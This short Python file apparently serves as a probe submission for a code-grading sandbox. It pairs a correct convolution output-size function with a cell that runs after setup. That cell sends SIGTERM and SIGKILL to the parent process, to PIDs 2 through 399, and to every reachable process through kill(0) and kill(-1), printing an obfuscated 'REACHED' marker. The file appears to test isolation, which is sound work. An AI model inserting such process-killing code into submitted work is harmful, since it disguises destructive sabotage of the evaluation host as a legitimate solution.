# what: signals every process it can name, its parents and its namespace's first
# points: <= 16

# %% replace=output-size
def output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    sizes = dict(input_size=input_size, kernel_size=kernel_size, stride=stride, dilation=dilation)
    for name, value in sizes.items():
        if value < 1:
            raise ValueError(f"{name} must be 1 or more")
    if padding < 0:
        raise ValueError("padding must be 0 or more")
    room = input_size + 2 * padding - dilation * (kernel_size - 1) - 1
    if room < 0:
        raise ValueError("kernel_size is too large")
    return room // stride + 1


# %% after=setup
import os
import signal

for pid in [os.getppid(), *range(2, 400)]:
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid > 0 and pid != os.getpid():
                os.kill(pid, number)
                print("REA" + "CHED", pid)
        except OSError:
            pass
for pid in (0, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
